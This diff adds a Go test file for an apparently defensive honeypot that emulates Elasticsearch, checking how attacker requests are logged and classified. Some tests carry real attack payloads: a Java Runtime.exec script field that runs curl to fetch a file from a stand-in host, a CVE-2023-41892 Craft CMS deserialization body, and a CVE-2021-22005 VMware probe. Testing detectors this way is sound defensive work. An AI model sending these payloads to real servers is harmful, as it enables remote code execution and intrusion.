@@ -1,0 +1,181 @@
+package elastic
+
+import (
+	"bufio"
+	"encoding/json"
+	"io"
+	"net"
+	"net/http"
+	"strconv"
+	"strings"
+	"testing"
+
+	"decoydb/internal/core"
+	"decoydb/internal/hptest"
+)
+
+func esInfo() core.Info {
+	return core.Info{DBMS: core.Elastic, Level: core.Medium, Port: 9200, Config: core.ConfigDefault, Group: core.GroupMedium}
+}
+
+// get performs one HTTP request over the raw connection and returns the
+// response body.
+func request(t *testing.T, conn net.Conn, br *bufio.Reader, method, target, body string) (int, string) {
+	t.Helper()
+	req := method + " " + target + " HTTP/1.1\r\nHost: victim:9200\r\n"
+	if body != "" {
+		req += "Content-Type: application/json\r\nContent-Length: " +
+			strconv.Itoa(len(body)) + "\r\n"
+	}
+	req += "\r\n" + body
+	if _, err := conn.Write([]byte(req)); err != nil {
+		t.Fatal(err)
+	}
+	resp, err := http.ReadResponse(br, nil)
+	if err != nil {
+		t.Fatalf("read response: %v", err)
+	}
+	defer resp.Body.Close()
+	b, err := io.ReadAll(resp.Body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return resp.StatusCode, string(b)
+}
+
+func TestRootBanner(t *testing.T) {
+	hp := New()
+	events := hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
+		br := bufio.NewReader(conn)
+		status, body := request(t, conn, br, "GET", "/", "")
+		if status != 200 {
+			t.Fatalf("status = %d", status)
+		}
+		var banner map[string]any
+		if err := json.Unmarshal([]byte(body), &banner); err != nil {
+			t.Fatalf("banner not JSON: %v", err)
+		}
+		ver := banner["version"].(map[string]any)
+		if ver["number"] != Version {
+			t.Fatalf("version = %v", ver["number"])
+		}
+	})
+	cmds := hptest.Commands(events)
+	if len(cmds) != 1 || cmds[0] != "GET /" {
+		t.Fatalf("commands = %v", cmds)
+	}
+}
+
+func TestScoutingEndpoints(t *testing.T) {
+	hp := New()
+	events := hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
+		br := bufio.NewReader(conn)
+		if status, body := request(t, conn, br, "GET", "/_cat/indices", ""); status != 200 || !strings.Contains(body, "customers") {
+			t.Fatalf("indices: %d %q", status, body)
+		}
+		if status, body := request(t, conn, br, "GET", "/_cluster/health", ""); status != 200 || !strings.Contains(body, `"status":"green"`) {
+			t.Fatalf("health: %d %q", status, body)
+		}
+		if status, body := request(t, conn, br, "GET", "/_nodes", ""); status != 200 || !strings.Contains(body, Version) {
+			t.Fatalf("nodes: %d %q", status, body)
+		}
+	})
+	cmds := hptest.Commands(events)
+	want := []string{"GET /_cat/indices", "GET /_cluster/health", "GET /_nodes"}
+	for i, w := range want {
+		if cmds[i] != w {
+			t.Fatalf("commands = %v, want %v", cmds, want)
+		}
+	}
+}
+
+// TestLuciferScriptField replays the shape of the paper's Listing 5: a
+// search whose source parameter carries a Java Runtime.exec payload.
+func TestLuciferScriptField(t *testing.T) {
+	hp := New()
+	payload := `{"query":{"filtered":{"query":{"match_all":{}}}},"script_fields":{"exp":{"script":"import java.util.*;import java.io.*;BufferedReader br = new BufferedReader(new InputStreamReader(Runtime.getRuntime().exec(\"curl -o /tmp/sss6 http://198.51.100.9:8080/sss6\").getInputStream()));"}}}`
+	events := hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
+		br := bufio.NewReader(conn)
+		status, body := request(t, conn, br, "POST", "/_search", payload)
+		if status != 200 {
+			t.Fatalf("status = %d", status)
+		}
+		// The PoC expects a hit carrying the script field.
+		if !strings.Contains(body, `"fields":{"exp"`) {
+			t.Fatalf("search body = %q", body)
+		}
+	})
+	cmds := hptest.Commands(events)
+	if len(cmds) != 1 || cmds[0] != "SEARCH SCRIPT-EXEC" {
+		t.Fatalf("commands = %v", cmds)
+	}
+	if raw := events[1].Raw; !strings.Contains(raw, "Runtime.getRuntime") {
+		t.Fatalf("raw excerpt lost the payload: %q", raw)
+	}
+}
+
+func TestCraftCMSProbe(t *testing.T) {
+	hp := New()
+	body := `action=conditions/render&test[userCondition]=craft\elements\conditions\users\UserCondition&config={"name":"test[userCondition]","as xyz":{"class":"\\GuzzleHttp\\Psr7\\FnStream","__construct()":[{"close":null}],"_fn_close":"phpinfo"}}`
+	events := hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
+		br := bufio.NewReader(conn)
+		request(t, conn, br, "POST", "/index.php?p=admin/actions/conditions/render", body)
+	})
+	cmds := hptest.Commands(events)
+	if len(cmds) != 1 || cmds[0] != "CVE-2023-41892 PROBE" {
+		t.Fatalf("commands = %v", cmds)
+	}
+}
+
+func TestVMwareRecon(t *testing.T) {
+	hp := New()
+	soap := `<soap:Envelope><soap:Body><RetrieveServiceContent xmlns="urn:vim25"><_this type="ServiceInstance">ServiceInstance</_this></RetrieveServiceContent></soap:Body></soap:Envelope>`
+	events := hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
+		br := bufio.NewReader(conn)
+		request(t, conn, br, "POST", "/sdk", soap)
+	})
+	cmds := hptest.Commands(events)
+	if len(cmds) != 1 || cmds[0] != "CVE-2021-22005 PROBE" {
+		t.Fatalf("commands = %v", cmds)
+	}
+}
+
+func TestIndexPathTemplating(t *testing.T) {
+	hp := New()
+	events := hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
+		br := bufio.NewReader(conn)
+		request(t, conn, br, "GET", "/secret-index-7/_search?q=*", "")
+		request(t, conn, br, "GET", "/another/_mapping", "")
+		request(t, conn, br, "GET", "/justanindex", "")
+	})
+	cmds := hptest.Commands(events)
+	want := []string{"GET /{index}/_search", "GET /{index}/_mapping", "GET /{index}"}
+	for i, w := range want {
+		if cmds[i] != w {
+			t.Fatalf("commands = %v, want %v", cmds, want)
+		}
+	}
+}
+
+func TestMalformedHTTPLogged(t *testing.T) {
+	hp := New()
+	events := hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
+		conn.Write([]byte("\x16\x03\x01\x02\x00garbage-tls-hello"))
+	})
+	cmds := hptest.Commands(events)
+	if len(cmds) != 1 || cmds[0] != "PROTOCOL-ERROR" {
+		t.Fatalf("commands = %v", cmds)
+	}
+}
+
+func TestOverrides(t *testing.T) {
+	hp := New()
+	hp.Overrides = map[string]string{"GET /_custom": `{"custom":true}`}
+	hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
+		br := bufio.NewReader(conn)
+		status, body := request(t, conn, br, "GET", "/_custom", "")
+		if status != 200 || body != `{"custom":true}` {
+			t.Fatalf("override = %d %q", status, body)
+		}
+	})
+}
